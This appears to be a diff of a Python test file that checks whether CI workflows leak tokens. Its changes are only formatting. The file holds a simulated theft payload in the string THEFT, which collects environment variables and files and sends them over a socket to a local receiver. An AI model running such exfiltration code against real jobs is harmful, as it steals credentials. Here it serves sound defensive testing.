@@ -15,7 +15,7 @@ from tests.workflows.conftest import UPSTREAM, commit_upstream, pin
 EXPORT = "Export, and run every gate"
 # What a thief would try: its own environment, that of every process of the job above it, and
 # every file that the job's directories hold; all of it is sent away.
-THEFT = '''
+THEFT = """
 import os, pathlib, socket
 
 def loot():
@@ -49,7 +49,7 @@ def loot():
 with socket.create_connection(("127.0.0.1", PORT), 10) as receiver:
     for text in loot():
         receiver.sendall(text.encode(errors="replace") + b"\\n\\n")
-'''
+"""
 
 
 @dataclass
@@ -151,7 +151,9 @@ def give_an_identity(workflow) -> None:
 
 
 @pytest.mark.parametrize(
-    "mistake", [give_token_to_the_step, keep_credentials, give_an_identity], ids=lambda f: f.__name__
+    "mistake",
+    [give_token_to_the_step, keep_credentials, give_an_identity],
+    ids=lambda f: f.__name__,
 )
 def test_the_thief_would_find_a_token_if_the_workflow_made_a_mistake(robbed, mistake):
     project, receiver = robbed
